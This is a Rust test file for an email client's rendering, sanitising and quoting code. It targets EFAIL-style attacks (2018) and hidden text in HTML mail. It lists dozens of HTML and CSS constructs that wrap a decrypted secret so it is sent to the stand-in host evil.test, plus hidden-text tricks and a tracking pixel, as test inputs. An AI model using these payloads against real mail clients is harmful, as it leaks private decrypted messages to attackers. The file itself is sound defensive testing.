//! T64: what is quoted is what was seen, and no part of a message reaches into another (EFAIL, 2018).

use postroom::domain::HeldText;
use postroom::render::sanitise::{Elsewhere, sanitise};
use postroom::render::{Part, page, printed, words_as_drawn};
use postroom::rfc822::quote;

/// What opens something before the secret, and closes it behind.
const CONSTRUCTS: &[(&str, &str)] = &[
    ("<img src=\"http://evil.test/", "\">"),
    ("<img src='http://evil.test/", "'>"),
    ("<img src=http://evil.test/", " >"),
    ("<img src=\"http://evil.test/?", ""),
    ("<a href=\"http://evil.test/", "\">look</a>"),
    ("<a href='mailto:x@evil.test?body=", "'>answer</a>"),
    ("<table background=\"http://evil.test/", "\"></table>"),
    (
        "<div style=\"background:url(http://evil.test/",
        ")\"></div>",
    ),
    ("<style>p{background:url(http://evil.test/", ")}</style>"),
    ("<style>@import 'http://evil.test/", "';</style>"),
    ("<style>/*", "*/</style>"),
    ("<link rel=stylesheet href=\"http://evil.test/", "\">"),
    (
        "<meta http-equiv=refresh content=\"0;url=http://evil.test/",
        "\">",
    ),
    ("<base href=\"http://evil.test/", "\">"),
    (
        "<form action=http://evil.test><textarea name=a>",
        "</textarea><input type=submit></form>",
    ),
    (
        "<form action=http://evil.test><input name=a value=\"",
        "\"></form>",
    ),
    ("<select><option>", "</option></select>"),
    ("<iframe src=\"http://evil.test/", "\"></iframe>"),
    ("<iframe srcdoc=\"", "\"></iframe>"),
    ("<object data=\"http://evil.test/", "\"></object>"),
    ("<video poster=\"http://evil.test/", "\"></video>"),
    ("<svg><image href=\"http://evil.test/", "\"/></svg>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<!--", "-->"),
    ("<![CDATA[", "]]>"),
    ("<script>x='", "'</script>"),
    ("<noscript>", "</noscript>"),
    ("<template>", "</template>"),
    ("<plaintext>", ""),
    ("<xmp>", "</xmp>"),
    ("<title>", "</title>"),
    ("<div hidden>", "</div>"),
    ("<div style=\"display:none\">", "</div>"),
    ("<div style=\"position:absolute;left:-9999px\">", "</div>"),
    (
        "<blockquote><div><span><b><i><u>",
        "</u></i></b></span></div></blockquote>",
    ),
];

/// The parts by which a secret is put between: as text, as HTML, in a message of its own, and as what was decrypted
/// elsewhere.
const BETWEEN: &[&str] = &[
    "Content-Type: text/plain\r\n\r\nthe secret\r\n",
    "Content-Type: text/html\r\n\r\n<p>the secret</p>\r\n",
    "Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n\r\nthe secret\r\n--i--\r\n",
    "Content-Type: multipart/alternative; boundary=i\r\n\r\n--i\r\n\r\nthe secret\r\n--i\r\nContent-Type: text/html\r\n\r\n<p>the secret\r\n--i--\r\n",
    "\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nthe secret\r\n-----END PGP MESSAGE-----\r\n",
];

#[test]
fn no_part_takes_in_another() {
    for (open, close) in CONSTRUCTS {
        for between in BETWEEN {
            let html = |html: &str| format!("--o\r\nContent-Type: text/html\r\n\r\n{html}\r\n");
            let raw = format!(
                "Content-Type: multipart/mixed; boundary=o\r\n\r\n{}--o\r\n{between}{}--o--\r\n",
                html(open),
                html(close)
            );
            let held = HeldText::Whole(raw.into_bytes());
            let read = page(&held).unwrap();
            let parts = &read.html.unwrap().parts;
            assert_eq!(parts.len(), 3, "{open}");
            // Whoever hides a part hides his own.
            assert!(
                format!("{:?}", read.blocks).contains("the secret"),
                "{open} {between}"
            );
            for part in [&parts[0], &parts[2]] {
                let Part::Html(html) = part else {
                    panic!("{open}")
                };
                let clean = sanitise(html, Elsewhere::Kept);
                assert!(
                    !clean.html.contains("secret") && !clean.hints.contains("secret"),
                    "{open}"
                );
                assert!(
                    clean
                        .pictures
                        .iter()
                        .all(|address| !address.contains("secret")),
                    "{open}"
                );
            }
            let printed = printed(&held, "en", "a", &[]).unwrap();
            let main = printed.split_once("<main>").unwrap().1;
            assert!(
                main.contains("the secret") && !main.contains("evil.test/the"),
                "{open}: {main}"
            );
            let quoted = quote(&words_as_drawn(&held).unwrap(), "Kim wrote:");
            assert!(quoted.contains("the secret"), "{open}: {quoted}");
            assert!(
                !quoted.contains("evil.test/the") && !quoted.contains("body=the"),
                "{open}: {quoted}"
            );
        }
    }
}

/// Words that nobody sees in the mail that is drawn, in every way in which they are hidden.
const HIDDEN: &[&str] = &[
    "<div style='display:none'>I OWE YOU</div>",
    "<div style='visibility:hidden'>I OWE YOU</div>",
    "<div style='opacity:0'>I OWE YOU</div>",
    "<div style='font-size:0'>I OWE YOU</div>",
    "<div style='font-size:1px;color:#fff'>I OWE YOU</div>",
    "<div style='color:#fff;background:#fff'>I OWE YOU</div>",
    "<div style='color:transparent'>I OWE YOU</div>",
    "<div style='max-height:0;overflow:hidden'>I OWE YOU</div>",
    "<div style='height:0;width:0;overflow:hidden'>I OWE YOU</div>",
    "<div style='text-indent:-9999px'>I OWE YOU</div>",
    "<div style='position:absolute;left:-9999px'>I OWE YOU</div>",
    "<div style='mso-hide:all;display:none'>I OWE YOU</div>",
    "<div hidden>I OWE YOU</div>",
    "<style>.h{display:none}</style><div class=h>I OWE YOU</div>",
    "<style>#h{display:none}</style><div id=h>I OWE YOU</div>",
    "<style>@media screen{.h{display:none}}</style><div class=h>I OWE YOU</div>",
    "<style>@media (min-width:1px){.h{display:none}}</style><div class=h>I OWE YOU</div>",
    "<style>i{font-size:0}</style><i>I OWE YOU</i>",
    "<!-- I OWE YOU --><!--[if mso]><p>I OWE YOU</p><![endif]-->",
    "<noscript>I OWE YOU</noscript><template>I OWE YOU</template>",
    "<svg><text>I OWE YOU</text></svg><math><mtext>I OWE YOU</mtext></math>",
    "<textarea>I OWE YOU</textarea><select><option>I OWE YOU</select>",
    "<iframe>I OWE YOU</iframe><object>I OWE YOU</object><audio>I OWE YOU</audio>",
    "<img src='http://evil.test/open.gif?who=anna' width=1 height=1 alt='I OWE YOU'>",
    "<title>I OWE YOU</title><script>I OWE YOU</script>",
];

#[test]
fn an_answer_quotes_what_was_seen_and_nothing_that_was_hidden() {
    for hidden in HIDDEN {
        for plain in [
            "Can we meet on Monday?",
            "Can we meet on Monday?\r\n\r\nI OWE YOU",
            "I OWE YOU",
            "",
        ] {
            let raw = format!(
                "Content-Type: multipart/alternative; boundary=i\r\n\r\n--i\r\n\r\n{plain}\r\n--i\r\n\
                 Content-Type: text/html\r\n\r\n<p>Can we meet on Monday?</p>{hidden}\r\n--i--\r\n"
            );
            let words = words_as_drawn(&HeldText::Whole(raw.into_bytes())).unwrap();
            let quoted = quote(&words, "Kim wrote:");
            assert_eq!(
                quoted, "Kim wrote:\n> Can we meet on Monday?\n",
                "{hidden} {plain}"
            );
        }
    }
}
